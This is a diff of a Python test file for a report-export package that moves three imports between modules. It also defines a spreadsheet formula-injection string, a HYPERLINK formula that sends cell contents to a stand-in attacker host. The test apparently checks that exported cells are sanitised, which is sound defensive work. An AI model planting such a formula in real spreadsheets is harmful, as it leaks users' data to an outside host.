@@ -11,9 +11,9 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import Engine
 
+from servitize.contracts.report import Stop
+from servitize.contracts.report_files import table_csv, tables_xlsx
 from servitize.core.cells import safe_cell
-from servitize.telemetry.report import Stop
-from servitize.telemetry.report_files import table_csv, tables_xlsx
 from tests.installed_base.importing.helpers import prefix, rejects, run, write
 
 ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
